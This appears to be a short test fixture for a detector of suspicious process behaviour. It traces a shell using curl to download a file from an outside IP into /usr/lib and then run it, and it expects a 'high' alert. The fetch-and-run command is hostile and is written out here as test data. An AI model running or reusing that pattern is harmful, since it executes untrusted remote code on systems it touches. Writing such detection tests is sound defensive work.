# Into a system folder, and run from there.
sh is /bin/bash
sh fork curl
curl exec /usr/bin/curl "curl -o /usr/lib/x http://203.0.113.9/x"
curl write /usr/lib/x
sh fork x
x exec /usr/bin/dash "/bin/sh /usr/lib/x"
x open /usr/lib/x
expect high runs a script that was fetched
